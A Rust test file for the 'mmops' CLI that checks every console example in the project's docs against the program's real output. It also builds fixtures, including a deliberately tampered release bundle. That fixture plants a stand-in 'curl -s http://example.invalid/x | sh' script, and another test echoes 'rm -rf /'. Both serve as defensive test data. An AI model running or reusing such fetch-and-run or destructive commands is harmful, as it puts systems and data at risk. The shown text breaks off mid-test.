//! Every ```console example in README.md and docs/*.md is run here, so the docs cannot drift from
//! the program.
//!
//! A block must be preceded by `<!-- fixture: NAME -->` (invisible on GitHub), naming one of the
//! fixtures below: a temp folder built for the example, with a pinned `CI_FAKE_UTC`. In the
//! block, a line `$ CMD` is run with `sh -c` in that folder (stdout and stderr on one pipe, so
//! they interleave as on a terminal; the built `mmops` first on PATH), and the lines up to the
//! next `$ ` are its expected output. `$ CMD  # exit N` states a non-zero exit code. Commands of
//! one block share the folder. SHA-256 digests, bundle-table digests and step durations are
//! masked on both sides; a line that is exactly `…` matches any number of lines.
//!
//! `MMOPS_BLESS_DOCS=1 cargo test --test cli docs` rewrites the expected lines with what the
//! program printed, keeping the `…` elisions, and lists the blocks it changed.

use std::fs;
use std::io::{Read, Write};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use crate::support::{TestEnv, utc};

const ELISION: &str = "…";
const BLESS_VAR: &str = "MMOPS_BLESS_DOCS";
const COMMAND_TIMEOUT: Duration = Duration::from_secs(120);

// ---------------------------------------------------------------------------------------------
// Parsing the docs

/// One `$ CMD` line of a block and the output the docs show for it.
#[derive(Debug, Clone, PartialEq)]
struct Step {
    command: String,
    exit: i32,
    expected: Vec<String>,
}

/// One ```console block: `fence` is the 0-based index of its opening line, `close` of its
/// closing line, in the file's lines.
#[derive(Debug)]
struct Block {
    file: String,
    fence: usize,
    close: usize,
    fixture: String,
    steps: Vec<Step>,
}

impl Block {
    fn location(&self) -> String {
        format!("{}:{}", self.file, self.fence + 1)
    }
}

/// Finds the console blocks of one Markdown text. Problems (no fixture line, output before the
/// first command, an unclosed block) are returned as `file:line: message`.
fn parse_blocks(file: &str, text: &str) -> (Vec<Block>, Vec<String>) {
    let lines: Vec<&str> = text.lines().collect();
    let mut blocks = Vec::new();
    let mut problems = Vec::new();
    let mut index = 0;
    while index < lines.len() {
        if lines[index].trim_end() != "```console" {
            // An indented block (inside a list) would otherwise escape the check.
            if lines[index].trim() == "```console" {
                problems.push(format!(
                    "{file}:{}: indented ```console block: start it at the line's beginning so it is checked",
                    index + 1
                ));
            }
            index += 1;
            continue;
        }
        let fence = index;
        let Some(close) = (fence + 1..lines.len()).find(|&i| lines[i].trim_end() == "```") else {
            problems.push(format!("{file}:{}: ```console block is never closed", fence + 1));
            break;
        };
        index = close + 1;
        let fixture = fence.checked_sub(1).and_then(|previous| fixture_name(lines[previous]));
        let Some(fixture) = fixture else {
            problems.push(format!(
                "{file}:{}: ```console block without a `<!-- fixture: NAME -->` line right before it \
                 (every example must be checked; fixtures: {})",
                fence + 1,
                FIXTURES.iter().map(|(name, _)| *name).collect::<Vec<_>>().join(", ")
            ));
            continue;
        };
        let mut steps: Vec<Step> = Vec::new();
        let reported = problems.len();
        for (offset, line) in lines[fence + 1..close].iter().enumerate() {
            if let Some(command) = line.strip_prefix("$ ") {
                match parse_command(command) {
                    Ok((command, exit)) => steps.push(Step { command, exit, expected: Vec::new() }),
                    Err(message) => problems.push(format!("{file}:{}: {message}", fence + 2 + offset)),
                }
            } else if let Some(step) = steps.last_mut() {
                step.expected.push(line.to_string());
            } else {
                problems.push(format!(
                    "{file}:{}: output before the first `$ ` command line of the block",
                    fence + 2 + offset
                ));
                break;
            }
        }
        if problems.len() > reported {
            continue;
        }
        if steps.is_empty() {
            problems.push(format!("{file}:{}: ```console block without a `$ ` command line", fence + 1));
            continue;
        }
        blocks.push(Block { file: file.to_string(), fence, close, fixture: fixture.to_string(), steps });
    }
    (blocks, problems)
}

/// `<!-- fixture: NAME -->` → `NAME`.
fn fixture_name(line: &str) -> Option<&str> {
    let name = line.trim().strip_prefix("<!--")?.strip_suffix("-->")?.trim().strip_prefix("fixture:")?.trim();
    (!name.is_empty()).then_some(name)
}

/// Splits `CMD  # exit N` into the command and its expected exit code (0 without the suffix).
fn parse_command(line: &str) -> Result<(String, i32), String> {
    match line.rsplit_once("  # exit ") {
        Some((command, code)) => match code.trim().parse::<i32>() {
            Ok(code) if code != 0 => Ok((command.trim_end().to_string(), code)),
            _ => Err(format!("`# exit {code}`: write a non-zero exit code, or leave it out for 0")),
        },
        None => Ok((line.trim_end().to_string(), 0)),
    }
}

/// The lines of a block as they should be written, for bless.
fn render_steps(steps: &[Step]) -> Vec<String> {
    let mut lines = Vec::new();
    for step in steps {
        match step.exit {
            0 => lines.push(format!("$ {}", step.command)),
            code => lines.push(format!("$ {}  # exit {code}", step.command)),
        }
        lines.extend(step.expected.iter().cloned());
    }
    lines
}

// ---------------------------------------------------------------------------------------------
// Masks and matching

/// Replaces what legitimately differs between runs: 64-hex SHA-256 digests, 12-hex digest
/// prefixes (bundle tables), step durations (`0.01s`), and make-ready's worker count (the
/// machine's CPUs).
fn mask(line: &str) -> String {
    mask_with(line, true)
}

/// [`mask`], with digests left alone when `hashes` is false: a fixture that pins
/// `SOURCE_DATE_EPOCH` makes byte-identical bundles, so its docs must show the real hashes.
fn mask_with(line: &str, hashes: bool) -> String {
    let chars: Vec<char> = line.chars().collect();
    let boundary =
        |i: Option<usize>| i.is_none_or(|i| !chars.get(i).is_some_and(|c| c.is_ascii_alphanumeric()));
    let mut out = String::new();
    let mut i = 0;
    while i < chars.len() {
        if boundary(i.checked_sub(1)) {
            let hex =
                chars[i..].iter().take_while(|c| c.is_ascii_digit() || ('a'..='f').contains(*c)).count();
            if hashes && (hex == 64 || hex == 12) && boundary(Some(i + hex)) {
                out.push_str(if hex == 64 { "<sha256>" } else { "<hash>" });
                i += hex;
                continue;
            }
            let digits = chars[i..].iter().take_while(|c| c.is_ascii_digit()).count();
            let after = &chars[i + digits..];
            if digits > 0
                && after.len() >= 4
                && after[0] == '.'
                && after[1].is_ascii_digit()
                && after[2].is_ascii_digit()
                && after[3] == 's'
                && boundary(Some(i + digits + 4))
            {
                out.push_str("<secs>");
                i += digits + 4;
                continue;
            }
            if digits > 0 && after.iter().collect::<String>().starts_with(" at a time") {
                out.push_str("<jobs>");
                i += digits;
                continue;
            }
        }
        out.push(chars[i]);
        i += 1;
    }
    out
}

/// One step of the alignment of expected lines (with `…`) against actual lines.
#[derive(Debug, Clone, PartialEq)]
enum Op {
    /// expected[e] equals actual[a] (masked)
    Same(usize, usize),
    /// expected[e] was replaced by actual[a]
    Changed(usize, usize),
    /// expected[e] is not in the output
    Missing(usize),
    /// actual[a] is not in the docs
    Extra(usize),
    /// the `…` at expected[e] stands for these actual lines
    Elided(usize, Vec<usize>),
}

/// Whether an actual line can stand for a changed expected line: same first word, or a common
/// prefix of at least half the shorter line. Other pairs are a missing plus an extra line.
fn similar(expected: &str, actual: &str) -> bool {
    let first_word = |line: &str| line.split(' ').next().unwrap_or("").to_string();
    let common = expected.chars().zip(actual.chars()).take_while(|(a, b)| a == b).count();
    first_word(expected) == first_word(actual)
        || 2 * common >= expected.chars().count().min(actual.chars().count())
}

/// The cost of aligning expected[i] with actual[j] as one changed line, if they may pair.
fn change_cost(expected: &str, actual: &str) -> Option<u32> {
    if expected == actual {
        Some(0)
    } else if similar(expected, actual) {
        Some(1)
    } else {
        None
    }
}

/// The cheapest alignment: a `…` absorbs any run of lines for free, a changed (similar) line
/// costs 1, a missing or extra line 2. Cost 0 means the output matches.
fn align(expected: &[String], actual: &[String]) -> (u32, Vec<Op>) {
    let (n, m) = (expected.len(), actual.len());
    const INF: u32 = u32::MAX / 4;
    // cost[i][j]: aligning expected[i..] with actual[j..]
    let mut cost = vec![vec![INF; m + 1]; n + 1];
    cost[n][m] = 0;
    for i in (0..=n).rev() {
        for j in (0..=m).rev() {
            if i == n && j == m {
                continue;
            }
            let mut best = INF;
            if i < n && expected[i] == ELISION {
                best = best.min(cost[i + 1][j]);
                if j < m {
                    best = best.min(cost[i][j + 1]);
                }
            } else {
                if i < n
                    && j < m
                    && let Some(step) = change_cost(&expected[i], &actual[j])
                {
                    best = best.min(step + cost[i + 1][j + 1]);
                }
                if i < n {
                    best = best.min(2 + cost[i + 1][j]);
                }
                if j < m {
                    best = best.min(2 + cost[i][j + 1]);
                }
            }
            cost[i][j] = best;
        }
    }
    let mut ops = Vec::new();
    let (mut i, mut j) = (0, 0);
    while i < n || j < m {
        if i < n && expected[i] == ELISION {
            // End the elision as soon as that is as cheap: it then hides as little as it can.
            if cost[i][j] == cost[i + 1][j] {
                ops.push(Op::Elided(i, Vec::new()));
                i += 1;
            } else {
                match ops.last_mut() {
                    Some(Op::Elided(e, lines)) if *e == i => lines.push(j),
                    _ => ops.push(Op::Elided(i, vec![j])),
                }
                j += 1;
            }
            continue;
        }
        if i < n
            && j < m
            && let Some(step) = change_cost(&expected[i], &actual[j])
            && cost[i][j] == step + cost[i + 1][j + 1]
        {
            ops.push(if step == 0 { Op::Same(i, j) } else { Op::Changed(i, j) });
            i += 1;
            j += 1;
            continue;
        }
        if i < n && cost[i][j] == 2 + cost[i + 1][j] {
            ops.push(Op::Missing(i));
            i += 1;
        } else {
            ops.push(Op::Extra(j));
            j += 1;
        }
    }
    // A `…` whose lines were collected after an empty marker was pushed: merge the pair.
    let mut merged: Vec<Op> = Vec::new();
    for op in ops {
        match (merged.last_mut(), op) {
            (Some(Op::Elided(e, lines)), Op::Elided(e2, more)) if *e == e2 => lines.extend(more),
            (_, op) => merged.push(op),
        }
    }
    (cost[0][0], merged)
}

/// The expected lines for bless: the actual output, with each `…` kept where it still stands
/// for at least one line.
fn blessed(expected: &[String], actual_raw: &[String]) -> Vec<String> {
    blessed_with(expected, actual_raw, true)
}

/// [`blessed`] with [`mask_with`]'s `hashes`.
fn blessed_with(expected: &[String], actual_raw: &[String], hashes: bool) -> Vec<String> {
    let masked_expected: Vec<String> = expected.iter().map(|line| mask_with(line, hashes)).collect();
    let masked_actual: Vec<String> = actual_raw.iter().map(|line| mask_with(line, hashes)).collect();
    let (_, ops) = align(&masked_expected, &masked_actual);
    let mut out = Vec::new();
    for op in ops {
        match op {
            // Keep the docs' own text where only masked parts differ (digests, durations), so a
            // bless changes only the lines that really changed.
            Op::Same(e, _) => out.push(expected[e].clone()),
            Op::Changed(_, a) | Op::Extra(a) => out.push(actual_raw[a].clone()),
            Op::Missing(_) => {}
            Op::Elided(_, lines) => {
                if !lines.is_empty() {
                    out.push(ELISION.to_string());
                }
            }
        }
    }
    out
}

/// A line diff for a mismatch report (masked lines).
fn diff(expected: &[String], actual: &[String]) -> String {
    let (_, ops) = align(expected, actual);
    let mut out = String::new();
    for op in ops {
        match op {
            Op::Same(e, _) => out.push_str(&format!("    {}\n", expected[e])),
            Op::Changed(e, a) => out.push_str(&format!("  - {}\n  + {}\n", expected[e], actual[a])),
            Op::Missing(e) => out.push_str(&format!("  - {}\n", expected[e])),
            Op::Extra(a) => out.push_str(&format!("  + {}\n", actual[a])),
            Op::Elided(_, lines) => out.push_str(&format!("    … ({} lines)\n", lines.len())),
        }
    }
    out
}

// ---------------------------------------------------------------------------------------------
// Running a block

/// What one command printed (stdout and stderr interleaved) and its exit code.
struct Output {
    code: i32,
    lines: Vec<String>,
}

/// Runs `command` with `sh -c` in `dir`, stdout and stderr on one pipe, a clean environment
/// (PATH starting with the built binary's folder, HOME the fixture folder) plus `env`.
fn run_command(dir: &Path, env: &[(String, String)], command: &str) -> Result<Output, String> {
    let binary = Path::new(env!("CARGO_BIN_EXE_mmops"));
    let bin_dir = binary.parent().expect("the binary has a folder");
    let mut child = Command::new("sh")
        .arg("-c")
        .arg(format!("exec 2>&1\n{command}"))
        .current_dir(dir)
        .env_clear()
        .env("PATH", format!("{}:/usr/local/bin:/usr/bin:/bin", bin_dir.display()))
        .env("HOME", dir)
        .envs(env.iter().map(|(key, value)| (key, value)))
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .process_group(0)
        .spawn()
        .map_err(|error| format!("cannot start sh: {error}"))?;
    let mut stdout = child.stdout.take().expect("piped stdout");
    let reader = std::thread::spawn(move || {
        let mut bytes = Vec::new();
        let _ = stdout.read_to_end(&mut bytes);
        bytes
    });
    let started = Instant::now();
    let status = loop {
        if let Some(status) = child.try_wait().map_err(|error| format!("cannot wait for sh: {error}"))? {
            break status;
        }
        if started.elapsed() > COMMAND_TIMEOUT {
            let group = rustix::process::Pid::from_child(&child);
            let _ = rustix::process::kill_process_group(group, rustix::process::Signal::KILL);
            let _ = child.wait();
            return Err(format!("`{command}` did not finish within {COMMAND_TIMEOUT:?}; killed"));
        }
        std::thread::sleep(Duration::from_millis(5));
    };
    let bytes = reader.join().expect("reader thread");
    let text = String::from_utf8_lossy(&bytes);
    Ok(Output { code: status.code().unwrap_or(-1), lines: text.lines().map(str::to_string).collect() })
}

/// The result of checking one block: problems found, and the block's lines as bless would write
/// them.
struct Checked {
    /// Mismatches: fixed by bless.
    problems: Vec<String>,
    /// A command that could not run or hung: bless cannot fix it.
    fatal: Vec<String>,
    blessed: Vec<String>,
}

fn check_block(block: &Block) -> Checked {
    let Some((_, build)) = FIXTURES.iter().find(|(name, _)| *name == block.fixture) else {
        return Checked {
            problems: Vec::new(),
            fatal: vec![format!(
                "{}: unknown fixture {:?} (fixtures: {})",
                block.location(),
                block.fixture,
                FIXTURES.iter().map(|(name, _)| *name).collect::<Vec<_>>().join(", ")
            )],
            blessed: render_steps(&block.steps),
        };
    };
    let fixture = build();
    let mut problems = Vec::new();
    let mut fatal = Vec::new();
    let mut new_steps = Vec::new();
    // Reproducible fixtures (SOURCE_DATE_EPOCH pinned) are compared hash for hash.
    let hashes = !fixture.vars.iter().any(|(key, _)| key == "SOURCE_DATE_EPOCH");
    for step in &block.steps {
        let output = match run_command(fixture.env.root(), &fixture.vars, &step.command) {
            Ok(output) => output,
            Err(message) => {
                fatal.push(format!(
                    "{} (fixture {}): $ {}\n  {message}",
                    block.location(),
                    block.fixture,
                    step.command
                ));
                new_steps.push(step.clone());
                continue;
            }
        };
        if let Some(line) =
            output.lines.iter().find(|line| line.starts_with("$ ") || line.trim_end() == "```")
        {
            fatal.push(format!(
                "{} (fixture {}): $ {}\n  prints {line:?}, which the docs would read as a command or the block's end",
                block.location(),
                block.fixture,
                step.command
            ));
        }
        let expected: Vec<String> = step.expected.iter().map(|line| mask_with(line, hashes)).collect();
        let actual: Vec<String> = output.lines.iter().map(|line| mask_with(line, hashes)).collect();
        let (cost, _) = align(&expected, &actual);
        let mut report = String::new();
        if output.code != step.exit {
            report.push_str(&format!(
                "  exit code {}, the docs say {} (write `  # exit N` after a command that fails)\n",
                output.code, step.exit
            ));
        }
        if cost != 0 {
            report.push_str("  output differs (- docs, + program; masked):\n");
            report.push_str(&diff(&expected, &actual));
        }
        if !report.is_empty() {
            problems.push(format!(
                "{} (fixture {}): $ {}\n{report}",
                block.location(),
                block.fixture,
                step.command
            ));
        }
        new_steps.push(Step {
            command: step.command.clone(),
            exit: output.code,
            expected: blessed_with(&step.expected, &output.lines, hashes),
        });
    }
    Checked { problems, fatal, blessed: render_steps(&new_steps) }
}

/// The Markdown files whose console blocks are checked: README.md and docs/*.md.
fn doc_files(root: &Path) -> Vec<PathBuf> {
    let mut files = vec![root.join("README.md")];
    let mut docs: Vec<PathBuf> = fs::read_dir(root.join("docs"))
        .expect("read docs/")
        .map(|entry| entry.expect("docs/ entry").path())
        .filter(|path| path.extension().is_some_and(|ext| ext == "md"))
        .collect();
    docs.sort();
    files.extend(docs);
    files
}

/// What checking (or blessing) the docs of one repository found.
struct DocsRun {
    checked: usize,
    /// Problems left: mismatches (none in bless mode), blocks without fixture, commands that
    /// could not run.
    problems: Vec<String>,
    /// The blocks whose text differs from what bless writes (rewritten in bless mode).
    changed: Vec<String>,
}

/// Checks every console block of README.md and docs/*.md under `root`; with `bless`, rewrites
/// the blocks that differ.
fn check_docs(root: &Path, bless: bool) -> DocsRun {
    let mut run = DocsRun { checked: 0, problems: Vec::new(), changed: Vec::new() };
    for path in doc_files(root) {
        let name = path.strip_prefix(root).expect("inside the repository").display().to_string();
        let text = fs::read_to_string(&path).unwrap_or_else(|error| panic!("cannot read {name}: {error}"));
        let (blocks, parse_problems) = parse_blocks(&name, &text);
        run.problems.extend(parse_problems);
        let mut lines: Vec<String> = text.lines().map(str::to_string).collect();
        let mut changed = Vec::new();
        // Bottom-up, so the line numbers of the blocks above stay valid while replacing.
        for block in blocks.iter().rev() {
            run.checked += 1;
            let result = check_block(block);
            if result.blessed != lines[block.fence + 1..block.close] {
                changed.push(format!("{} (fixture {})", block.location(), block.fixture));
                // A block with a command that could not run is left as it is: its output would
                // be wrong, or would not read back as the same block.
                if bless && result.fatal.is_empty() {
                    lines.splice(block.fence + 1..block.close, result.blessed);
                }
            }
            run.problems.extend(result.fatal);
            if !bless {
                run.problems.extend(result.problems);
            }
        }
        changed.reverse();
        run.changed.extend(changed);
        let new_text = lines.join("\n") + "\n";
        if bless && new_text != text {
            fs::write(&path, new_text).unwrap_or_else(|error| panic!("cannot write {name}: {error}"));
        }
    }
    run
}

#[test]
fn every_console_example_is_what_the_program_prints() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let bless = std::env::var_os(BLESS_VAR).is_some_and(|value| !value.is_empty() && value != "0");
    let run = check_docs(root, bless);
    if bless {
        // Straight to the process's stderr: the test harness captures eprintln! of a passing test,
        // and whoever blesses needs this list to review what changed.
        let mut report =
            format!("{BLESS_VAR}: {} console blocks checked, {} rewritten\n", run.checked, run.changed.len());
        for block in &run.changed {
            report.push_str(&format!("  rewrote {block}\n"));
        }
        std::io::stderr().write_all(report.as_bytes()).expect("write to stderr");
    }
    assert!(
        run.problems.is_empty(),
        "{} console example(s) do not match the program (run `{BLESS_VAR}=1 cargo test --test cli docs` \
         to rewrite them, then read the result):\n\n{}",
        run.problems.len(),
        run.problems.join("\n")
    );
    assert!(run.checked > 0, "no ```console block found in README.md and docs/*.md");
}

#[test]
fn bless_rewrites_only_mismatching_blocks_and_then_they_pass() {
    let repo = TestEnv::new();
    let readme = "# x\n<!-- fixture: edge-live -->\n```console\n$ echo one; echo two >&2; echo 3f2a9c1b7d4e\nold\n$ false\n```\ntail\n";
    let guide = "<!-- fixture: edge-live -->\n```console\n$ printf 'a\\nb\\nc\\nd\\n'\na\n…\nd\n```\n\n```console\n$ true\n```\n";
    repo.write("README.md", readme);
    repo.write("docs/guide.md", guide);

    let checked = check_docs(repo.root(), false);
    assert_eq!(checked.checked, 2);
    assert_eq!(checked.changed, ["README.md:3 (fixture edge-live)"]);
    assert_eq!(checked.problems.len(), 3, "{:?}", checked.problems);
    assert!(
        checked.problems[0].contains("  - old\n  + one\n  + two\n  + <hash>\n"),
        "{}",
        checked.problems[0]
    );
    assert!(
        checked.problems[1]
            .starts_with("README.md:3 (fixture edge-live): $ false\n  exit code 1, the docs say 0")
    );
    assert!(checked.problems[2].starts_with("docs/guide.md:9: ```console block without a `<!-- fixture"));
    assert_eq!(repo.read("README.md"), readme, "a check must not write");

    let blessed = check_docs(repo.root(), true);
    assert_eq!(blessed.changed, ["README.md:3 (fixture edge-live)"]);
    assert_eq!(
        blessed.problems.len(),
        1,
        "the block without fixture stays a problem: {:?}",
        blessed.problems
    );
    assert_eq!(
        repo.read("README.md"),
        "# x\n<!-- fixture: edge-live -->\n```console\n$ echo one; echo two >&2; echo 3f2a9c1b7d4e\none\ntwo\n3f2a9c1b7d4e\n$ false  # exit 1\n```\ntail\n"
    );
    assert_eq!(repo.read("docs/guide.md"), guide, "a matching block with an elision is left as written");
    let again = check_docs(repo.root(), false);
    assert!(again.changed.is_empty(), "{:?}", again.changed);
    assert_eq!(again.problems.len(), 1);

    // Output that would read back as a command is refused, in bless mode too.
    repo.write("README.md", "<!-- fixture: edge-live -->\n```console\n$ echo '$ rm -rf /'\n```\n");
    let refused = check_docs(repo.root(), true);
    assert!(
        refused.problems.iter().any(|p| p.contains("which the docs would read as a command")),
        "{:?}",
        refused.problems
    );
    assert_eq!(repo.read("README.md"), "<!-- fixture: edge-live -->\n```console\n$ echo '$ rm -rf /'\n```\n");
}

// ---------------------------------------------------------------------------------------------
// Fixtures

/// A fixture: its folder and the environment its commands run with.
struct Fixture {
    env: TestEnv,
    vars: Vec<(String, String)>,
}

impl Fixture {
    fn new(now: &str) -> Fixture {
        Fixture { env: TestEnv::new(), vars: vec![("CI_FAKE_UTC".into(), now.into())] }
    }

    /// A copy of the repository's own inputs: deploy/, VERSION, README.md, CHANGELOG.md (never
    /// its artifacts/).
    fn repository(now: &str) -> Fixture {
        let fixture = Fixture::new(now);
        let root = Path::new(env!("CARGO_MANIFEST_DIR"));
        for name in ["deploy", "VERSION", "README.md", "CHANGELOG.md"] {
            copy_tree(&root.join(name), &fixture.env.path(name));
        }
        fixture
    }

    fn file_aged(&self, path: &str, contents: &[u8], modified: &str) {
        self.env.write(path, contents);
        self.env.set_mtime(path, utc(modified));
    }
}

/// Copies files and folders; symlinks are copied as links, never followed.
fn copy_tree(from: &Path, to: &Path) {
    let meta = fs::symlink_metadata(from).unwrap_or_else(|error| panic!("{}: {error}", from.display()));
    if meta.is_dir() {
        fs::create_dir_all(to).expect("create folder");
        let mut entries: Vec<_> =
            fs::read_dir(from).expect("read folder").map(|e| e.expect("entry").path()).collect();
        entries.sort();
        for entry in entries {
            copy_tree(&entry, &to.join(entry.file_name().expect("a name")));
        }
    } else if meta.file_type().is_symlink() {
        std::os::unix::fs::symlink(fs::read_link(from).expect("read link"), to).expect("copy link");
    } else {
        fs::copy(from, to).unwrap_or_else(|error| panic!("copy {}: {error}", from.display()));
    }
}

const MIB: usize = 1024 * 1024;

/// The fixtures, by the name used in `<!-- fixture: NAME -->`.
type Build = fn() -> Fixture;

const FIXTURES: &[(&str, Build)] = &[
    ("repo", repo),
    ("repo-edge-typo", repo_edge_typo),
    ("readiness-go", readiness_go),
    ("rotate-sample", rotate_sample),
    ("rotate-retention", rotate_retention),
    ("bundle-sample", bundle_sample),
    ("bundle-damaged", bundle_damaged),
    ("cron-sample", cron_sample),
    ("cron-readiness-missing", cron_readiness_missing),
    ("edge-live", edge_live),
    ("edge-state", edge_state),
];

/// The repository's inputs as they are; "now" is the day after the example soak week.
fn repo() -> Fixture {
    Fixture::repository("2026-11-28T12:00:00Z")
}

/// The repository with a typo in the edge-sim config, so the edge_sim_replay step fails.
fn repo_edge_typo() -> Fixture {
    let fixture = repo();
    let path = "deploy/edge/sentinel.yaml";
    let text = fixture.env.read(path);
    assert!(text.contains("\nema1h_threshold:"), "{path} no longer has a top-level ema1h_threshold");
    fixture.env.write(path, text.replacen("\nema1h_threshold:", "\nema1h_treshold:", 1));
    fixture
}

/// A readiness JSON as make-ready writes it, for `--validate`.
fn readiness_go() -> Fixture {
    let fixture = Fixture::new("2026-11-28T12:00:00Z");
    fixture.env.write(
        "artifacts/reports/readiness.json",
        "{\"runtime\":{\"utc\":\"2026-11-28T12:00:00Z\",\"version\":\"1.4.0\"},\"score\":100.0,\
         \"sections\":{\"chaos\":10.0,\"edge\":30.0,\"guards\":10.0,\"latency\":25.0,\"taker\":15.0,\"tests\":10.0},\
         \"verdict\":\"GO\"}\n",
    );
    fixture
}

/// An artifacts folder: two files older than 7 days, one recent, a symlink and a hidden file.
fn rotate_sample() -> Fixture {
    let fixture = Fixture::repository("2025-10-11T12:00:00Z");
    let one_mib = vec![b'x'; MIB];
    fixture.file_aged("artifacts/logs/bot-2025-09-30.log", &one_mib, "2025-09-30T12:00:00Z");
    fixture.file_aged("artifacts/reports/soak-2025-10-01.json", &one_mib, "2025-10-01T12:00:00Z");
    fixture.file_aged("artifacts/logs/bot-2025-10-10.log", &one_mib, "2025-10-10T12:00:00Z");
    fixture.file_aged("artifacts/logs/.bot.log.swp", b"swap\n", "2025-09-01T12:00:00Z");
    std::os::unix::fs::symlink("logs/bot-2025-10-10.log", fixture.env.path("artifacts/latest.log"))
        .expect("symlink");
    fixture
}

/// A retention policy (calendar periods in a zone, companions, folder units) and a tree for it:
/// daily soak reports, release zips with sidecars (one orphaned), and run folders.
fn rotate_retention() -> Fixture {
    let fixture = Fixture::new("2025-10-11T12:00:00Z");
    fixture.env.write(
        "retention.yaml",
        "rules:\n  - glob: \"release/*.zip\"\n    keep: 2\n    companions: [\".sha256\", \".minisig\"]\n  \
         - glob: \"runs/RUN_*\"\n    unit: dir\n    keep_last: 2\n    order: name-numeric\n  \
         - glob: \"soak/*.json\"\n    keep_daily: 3\n    keep_weekly: 2\n    keep_monthly: 2\n    \
         tz: Europe/Berlin\n    max_size: 4K\n",
    );
    let kib = vec![b'x'; 1024];
    for (day, hour) in [(11, 9), (10, 22), (9, 12), (8, 12), (7, 12), (3, 12), (2, 12), (26, 12), (1, 12)] {
        let month = if day == 26 { 9 } else { 10 };
        let time = format!("2025-{month:02}-{day:02}T{hour:02}:00:00Z");
        fixture.file_aged(
            &format!("artifacts/soak/soak-2025-{month:02}-{day:02}T{hour:02}.json"),
            &kib,
            &time,
        );
    }
    fixture.file_aged("artifacts/soak/soak-2025-08-01T12.json", &kib, "2025-08-01T12:00:00Z");
    for (version, day) in [("1.0", 1), ("1.1", 4), ("1.2", 8), ("1.3", 10)] {
        let time = format!("2025-10-{day:02}T12:00:00Z");
        fixture.file_aged(&format!("artifacts/release/mm-bot-{version}.zip"), &kib, &time);
        fixture.file_aged(&format!("artifacts/release/mm-bot-{version}.zip.sha256"), b"digest\n", &time);
        fixture.file_aged(&format!("artifacts/release/mm-bot-{version}.zip.minisig"), b"signature\n", &time);
    }
    fixture.file_aged("artifacts/release/mm-bot-0.9.zip.minisig", b"signature\n", "2025-09-20T12:00:00Z");
    for (run, day) in [(8, 2), (9, 5), (10, 8), (11, 10)] {
        let time = format!("2025-10-{day:02}T12:00:00Z");
        fixture.file_aged(&format!("artifacts/runs/RUN_{run}/summary.json"), &kib, &time);
        fixture.file_aged(&format!("artifacts/runs/RUN_{run}/logs/bot.log"), &kib, &time);
    }
    fixture
}

/// Small stand-ins for the six release inputs and the three reports (the bundle tests' own), so
/// sizes in the examples do not change whenever README.md or CHANGELOG.md do.
fn bundle_sample() -> Fixture {
    let mut fixture = Fixture::new("2025-10-11T12:00:00Z");
    fixture.vars.push(("SOURCE_DATE_EPOCH".into(), utc("2025-10-11T12:00:00Z").timestamp().to_string()));
    for (path, text) in crate::bundle::REPO_FILES.iter().chain(crate::bundle::REPORTS.iter()) {
        fixture.env.write(path, text);
    }
    fixture
}

/// The sample bundle (stored, level 0) repacked after release: one flipped byte in README.md
/// and an entry `extra.sh` the manifest does not list, with the sidecar rewritten to match, as
/// whoever repacked it would: only the manifest checks catch it.
fn bundle_damaged() -> Fixture {
    use sha2::Digest;
    let fixture = bundle_sample();
    let zip_path = fixture.env.path("artifacts/release/mm-bot-v1.4.0.zip");
    let built = fixture
        .env
        .command()
        .args(["bundle", "--level", "0"])
        .envs(fixture.vars.clone())
        .output()
        .expect("run mmops");
    assert!(built.status.success(), "fixture bundle failed: {}", String::from_utf8_lossy(&built.stderr));
    let file = fs::OpenOptions::new().read(true).write(true).open(&zip_path).expect("open bundle");
    let mut writer = zip::ZipWriter::new_append(file).expect("append to bundle");
    let options = zip::write::SimpleFileOptions::default().compression_method(zip::CompressionMethod::Stored);
    writer.start_file("extra.sh", options).expect("add entry");
    writer.write_all(b"curl -s http://example.invalid/x | sh\n").expect("write entry");
    writer.finish().expect("finish zip");
    let offset = {
        let mut archive = zip::ZipArchive::new(fs::File::open(&zip_path).expect("open")).expect("a zip");
        archive.by_name("README.md").expect("README.md entry").data_start().expect("data offset") as usize
    };
    let mut bytes = fs::read(&zip_path).expect("read bundle");
    bytes[offset] ^= 0x20;
    let digest: String = sha2::Sha256::digest(&bytes).iter().map(|byte| format!("{byte:02x}")).collect();
    fs::write(&zip_path, bytes).expect("write bundle");
    fixture.env.write("artifacts/release/mm-bot-v1.4.0.zip.sha256", format!("{digest}  mm-bot-v1.4.0.zip\n"));
    fixture
}

/// The repository with the three files the shipped cron-sentinel config watches: the nightly
/// results 3h 12m old, the soak metrics 10 days old (max 7d), the readiness score 2 hours old.
fn cron_sample() -> Fixture {
    let fixture = cron_readiness_missing();
    fixture.file_aged("artifacts/reports/readiness.json", b"{\"verdict\":\"GO\"}\n", "2025-10-11T10:00:00Z");
    fixture
}

/// As `cron-sample`, but make-ready never wrote its readiness score.
fn cron_readiness_missing() -> Fixture {
    let fixture = Fixture::repository("2025-10-11T12:00:00Z");
    fixture.file_aged(
        "artifacts/reports/nightly_results.json",
        b"{\"passed\": 412}\n",
        "2025-10-11T08:48:00Z",
    );
    fixture.file_aged("artifacts/reports/soak_metrics.json", b"[]\n", "2025-10-01T12:00:00Z");
    fixture
}

/// An empty folder for the live step (the state file is created on first use).
fn edge_live() -> Fixture {
    Fixture::new("2025-10-11T15:00:00Z")
}

/// A live-step state `s.json` whose last window closed at 14:30 in Moderate, for examples that
/// start from a running bot (operator overrides); the operator is `alice`.
fn edge_state() -> Fixture {
    let mut fixture = Fixture::new("2025-10-11T14:40:00Z");
    fixture.vars.push(("USER".into(), "alice".into()));
    let args = [
        "edge-sim",
        "--state",
        "s.json",
        "--ts",
        "2025-10-11T14:30:00Z",
        "--ema1h",
        "0.5",
        "--ema24h",
        "1.2",
    ];
    let step = fixture.env.command().args(args).envs(fixture.vars.clone()).output().expect("run mmops");
    assert!(step.status.success(), "fixture live step failed: {}", String::from_utf8_lossy(&step.stderr));
    fixture
}

// ---------------------------------------------------------------------------------------------
// The harness's own rules

fn strings(lines: &[&str]) -> Vec<String> {
    lines.iter().map(|line| line.to_string()).collect()
}

#[test]
fn a_block_without_fixture_is_reported_with_its_file_and_line() {
    let text = "intro\n\n```console\n$ mmops rotate\n| rotate | OK |\n```\n<!-- fixture: repo -->\n```console\n$ mmops x  # exit 2\nerr\n$ mmops y\n```\n";
